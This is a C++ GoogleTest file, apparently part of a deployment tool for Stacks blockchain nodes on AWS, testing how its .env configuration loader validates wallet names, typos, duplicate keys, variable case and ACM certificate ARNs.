  EXPECT_THAT(error_about(testnet_addr, "STACKS_MINER_REWARD_RECIPIENT").message,
              HasSubstr("not a mainnet address"));
  auto follower = load_text(with("STACKS_MINER_SEGWIT=true\n"));
  EXPECT_EQ(about(follower, "STACKS_MINER_SEGWIT", Severity::warning).size(), 1u);
}

TEST(LoadMiner, WalletNameCharset) {
  auto r = load_text(with("BITCOIN_WALLET_NAME=\"my wallet\"\n"));
  EXPECT_THAT(error_about(r, "BITCOIN_WALLET_NAME").message, HasSubstr(". _ - /"));
  // stacks-core 4.0.2 validate_wallet_name_is_path_safe also refuses "..".
  for (const char* dots : {"a..b", "..", "../w", "w/.."}) {
    auto up = load_text(with(std::string("BITCOIN_WALLET_NAME=") + dots + "\n"));
    EXPECT_THAT(error_about(up, "BITCOIN_WALLET_NAME").message, HasSubstr("\"..\""));
  }
  EXPECT_FALSE(load_text(with("BITCOIN_WALLET_NAME=a.b/c.d\n")).diagnostics.has_errors());
  EXPECT_EQ(about(load_text(with("BITCOIN_MAX_RBF=99\n")), "BITCOIN_MAX_RBF").size(), 1u);
}

// --- unknown variables ---------------------------------------------------------------------

TEST(LoadUnknown, TyposAreWarningsWithTheClosestName) {
  auto r = load_text(with("STACKS_RCP_PORT=20443\nBITCOIN_PEER_HOTS=x\nOTHER_TOOL_VAR=1\n"));
  EXPECT_FALSE(r.diagnostics.has_errors());
  auto w = about(r, "STACKS_RCP_PORT", Severity::warning);
  ASSERT_EQ(w.size(), 1u);
  EXPECT_THAT(w[0].message, HasSubstr("did you mean STACKS_RPC_PORT"));
  EXPECT_EQ(about(r, "BITCOIN_PEER_HOTS", Severity::warning).size(), 1u);
  EXPECT_TRUE(about(r, "OTHER_TOOL_VAR", Severity::warning).empty());
}

TEST(LoadUnknown, EnvironmentTyposAndBlueprintDebugKey) {
  auto r = load_text(with("DEBUG_KEY_NAME=my-key\n"),
                     {{"STACKS_NETWROK", "testnet"}, {"STACKS_LOG_DEBUG", "1"}});
  EXPECT_EQ(about(r, "DEBUG_KEY_NAME", Severity::warning).size(), 1u);
  EXPECT_EQ(about(r, "STACKS_NETWROK", Severity::warning).size(), 1u);
  EXPECT_TRUE(about(r, "STACKS_LOG_DEBUG", Severity::warning).empty());
}

TEST(LoadUnknown, AKnownNameInTheWrongCaseIsAnError) {
  // Ignoring "stacks_network=testnet" would deploy mainnet instead.
  auto r = load_text(with("stacks_network=testnet\n"));
  auto e = error_about(r, "stacks_network");
  EXPECT_THAT(e.message, HasSubstr("STACKS_NETWORK"));
  EXPECT_THAT(e.message, HasSubstr("case"));
}

TEST(LoadUnknown, DuplicatesAreReported) {
  auto r = load_text(with("STACKS_RPC_PORT=21443\nSTACKS_RPC_PORT=22443\n"));
  EXPECT_EQ(r.config.ports.rpc, 22443);
  EXPECT_EQ(about(r, "STACKS_RPC_PORT", Severity::warning).size(), 1u);
}

// --- all at once ----------------------------------------------------------------------------

TEST(LoadAllAtOnce, EveryProblemIsReported) {
  auto r = load_text(
      "AWS_ACCOUNT_ID=1\nAWS_REGION=mars-1\nSTACKS_NODE_CONFIGURATION=sailor\n"
      "STACKS_RPC_PORT=x\nSTACKS_DATA_VOL_TYPE=floppy\nSTACKS_HA_NUMBER_OF_NODES=0\n"
      "this line is broken\n");
  EXPECT_GE(r.diagnostics.errors().size(), 7u);
  for (const char* v :
       {"AWS_ACCOUNT_ID", "AWS_REGION", "STACKS_NODE_CONFIGURATION", "STACKS_RPC_PORT",
        "STACKS_DATA_VOL_TYPE", "STACKS_HA_NUMBER_OF_NODES", ".env:7"}) {
    EXPECT_EQ(about(r, v).size(), 1u) << v;
  }
}

TEST(LoadOrThrow, ThrowsUserErrorWithErrorsFirst) {
  const std::string path = ::testing::TempDir() + "/snr-load-or-throw.env";
  {
    std::ofstream out(path);
    out << "AWS_ACCOUNT_ID=1\nSTACKS_DATA_VOL_SIZE=100\n";
  }
  std::vector<Diagnostic> warnings;
  try {
    load_or_throw(path, {}, warnings);
    FAIL() << "expected UserError";
  } catch (const UserError& e) {
    ASSERT_GE(e.diagnostics().size(), 2u);
    EXPECT_TRUE(e.diagnostics().front().is_error());
    EXPECT_FALSE(e.diagnostics().back().is_error());
  }
  std::vector<Diagnostic> w2;
  EXPECT_THROW(load_or_throw(std::filesystem::path("/nonexistent/.env"), {}, w2), UserError);
}

}  // namespace
}  // namespace snr::config

namespace snr::config {
namespace {

TEST(AlbCertificate, UnsetMeansHttpAndAValidArnIsKept) {
  EXPECT_EQ(snr::testing::valid_config(snr::testing::kMinimalEnv).ha.alb_certificate_arn, "");
  const std::string arn = "arn:aws:acm:us-west-2:123456789012:certificate/abcd-1234";
  auto c = snr::testing::valid_config(std::string(snr::testing::kMinimalEnv) +
                                      "STACKS_HA_ALB_CERTIFICATE_ARN=" + arn + "\n");
  EXPECT_EQ(c.ha.alb_certificate_arn, arn);
}

TEST(AlbCertificate, MalformedOrOtherRegionIsAnErrorNamingIt) {
  for (const char* bad : {"not-an-arn", "arn:aws:acm:us-west-2:12345:certificate/x",
                          "arn:aws:iam::123456789012:server-certificate/x",
                          "arn:aws:acm:us-west-2:123456789012:certificate/"}) {
    auto r = snr::testing::load_text(std::string(snr::testing::kMinimalEnv) +
                                     "STACKS_HA_ALB_CERTIFICATE_ARN=" + bad + "\n");
    auto e = snr::testing::about(r, "STACKS_HA_ALB_CERTIFICATE_ARN");
    ASSERT_EQ(e.size(), 1u) << bad;
    EXPECT_THAT(e[0].message, ::testing::HasSubstr("not an ACM certificate ARN")) << bad;
  }
  auto r = snr::testing::load_text(
      std::string(snr::testing::kMinimalEnv) +
      "STACKS_HA_ALB_CERTIFICATE_ARN=arn:aws:acm:us-east-1:123456789012:certificate/abc\n");
  auto e = snr::testing::about(r, "STACKS_HA_ALB_CERTIFICATE_ARN");
  ASSERT_EQ(e.size(), 1u);
  EXPECT_THAT(e[0].message, ::testing::HasSubstr("us-east-1"));
  EXPECT_THAT(e[0].message, ::testing::HasSubstr("AWS_REGION is us-west-2"));
  EXPECT_THAT(e[0].message, ::testing::HasSubstr("regional"));
}

}  // namespace
}  // namespace snr::config
